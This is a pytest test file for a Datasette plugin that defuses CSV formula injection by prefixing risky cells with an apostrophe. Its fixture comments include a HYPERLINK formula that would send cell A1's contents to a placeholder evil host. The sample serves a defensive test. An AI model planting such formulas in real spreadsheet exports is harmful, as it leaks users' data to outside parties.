"""Spreadsheet safety: a comment that looks like a formula is exported as text, never run.

Real Datasette in-process over a real SQLite file; the table's and a canned query's CSV, streamed
and not, are read back with the csv module as a spreadsheet would read them.
"""

from __future__ import annotations

import csv
import io
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlite_utils

from feedback.serve import csv_safety
from feedback.serve.csv_safety import CsvRewriter, complete_records
from feedback.spreadsheet import neutralise

from .conftest import REPO

COMMENTS = [
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "+44 is my country code",
    "-2*3 stars",
    "@SUM(A1:A9)",
    "\tindented =1+1",
    "\rcarriage",
    "fine, \"quoted\"\nand on two lines",
    "=\n\"multi-line\" formula",
    "Plain comment about a late van",
    "-",
]
SAFE = ["'" + COMMENTS[0], "'" + COMMENTS[1], "'" + COMMENTS[2], "'" + COMMENTS[3], "'" + COMMENTS[4],
        "'" + COMMENTS[5], COMMENTS[6], "'" + COMMENTS[7], COMMENTS[8], "'-"]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1 555", "'+1 555"), ("-2*3", "'-2*3"), ("@cmd", "'@cmd"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"), ("=", "'="),
        ("-0.42", "-0.42"), ("+3", "+3"), ("-1e-3", "-1e-3"), ("-.5", "-.5"), ("12", "12"),
        ("", ""), ("a = b", "a = b"), (" =1", " =1"), ("'=1", "'=1"), ("-0.42 stars", "'-0.42 stars"),
        ("\n=1", "'\n=1"), (None, None), (-0.52, -0.52), (3, 3),
    ],
)
def test_neutralise(cell: object, expected: object) -> None:
    assert neutralise(cell) == expected


@pytest.mark.parametrize(
    ("text", "whole"),
    [
        ("a,b\r\nc,d\r\n", 10), ("a,b\r\nc,", 5), ('a,"x\r\ny"\r\nc', 10), ('a,"x\r\n', 0), ("", 0),
        ('"a""b"\r\n"c', 8),
    ],
)
def test_complete_records_stop_outside_quoted_fields(text: str, whole: int) -> None:
    assert complete_records(text) == whole


def written(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64, 10_000], ids=lambda n: f"chunks of {n} bytes")
def test_the_rewriter_is_the_same_whatever_the_chunks(size: int) -> None:
    rows = [["id", "text"], *([str(i), c + " ünïcødé"] for i, c in enumerate(COMMENTS))]
    data = written(rows)
    rewriter = CsvRewriter()
    out = b"".join(rewriter.feed(data[i:i + size]) for i in range(0, len(data), size)) + rewriter.feed(b"", final=True)
    assert list(csv.reader(io.StringIO(out.decode("utf-8"), newline=""))) == [
        ["id", "text"], *([str(i), neutralise(c + " ünïcødé")] for i, c in enumerate(COMMENTS))]
    untouched = written([["1", "Plain"], ["2", "-0.5"]])
    assert CsvRewriter().feed(untouched, final=True) == untouched  # nothing else changes, byte for byte


def test_the_plugin_is_registered_with_datasette() -> None:
    project = tomllib.loads((REPO / "pyproject.toml").read_text())
    assert project["project"]["entry-points"]["datasette"]["feedback_csv_safety"] == "feedback.serve.csv_safety"


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Any]:
    from datasette.app import Datasette
    from datasette.plugins import pm

    path = tmp_path / "archive.db"
    db = sqlite_utils.Database(path)
    db["feedback"].insert_all(
        [{"id": i, "text": text, "sentiment": -0.5 if i % 2 else 0.25} for i, text in enumerate(COMMENTS)], pk="id")
    db.close()
    # Installed, the entry point registers the module; from a source tree (or before reinstalling) register it here.
    registered = pm.is_registered(csv_safety)
    if not registered:
        pm.register(csv_safety, name="feedback_csv_safety")
    metadata = {"databases": {"archive": {"queries": {"comments": {
        "sql": "select id, text, sentiment from feedback order by id"}}}}}
    try:
        yield Datasette([str(path)], metadata=metadata, immutables=[])
    finally:
        if not registered:
            pm.unregister(csv_safety)


def cells(body: str, column: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    return [row[column] for row in rows]


@pytest.mark.parametrize(
    "path",
    ["/archive/feedback.csv", "/archive/feedback.csv?_stream=1", "/archive/feedback.csv?_dl=1&_size=3",
     "/archive/comments.csv", "/archive/comments.csv?_dl=1",
     "/archive.csv?sql=select+text,+sentiment+from+feedback+order+by+id"],
    ids=["table", "table streamed", "table download, one page", "canned query", "canned query download",
         "arbitrary SQL"],
)
async def test_csv_exports_hold_no_formula(served: Any, path: str) -> None:
    response = await served.client.get(path)
    assert response.status_code == 200, response.text[:300]
    count = 3 if "_size=3" in path else len(COMMENTS)
    assert cells(response.text, "text") == SAFE[:count]
    assert cells(response.text, "sentiment") == (["0.25", "-0.5"] * 5)[:count]  # numbers stay numbers


async def test_the_stored_text_and_the_json_are_unchanged(served: Any) -> None:
    response = await served.client.get("/archive/feedback.json?_shape=array")
    assert [row["text"] for row in response.json()] == COMMENTS
    page = await served.client.get("/archive/feedback")
    assert "&#39;=HYPERLINK" not in page.text and "=HYPERLINK" in page.text
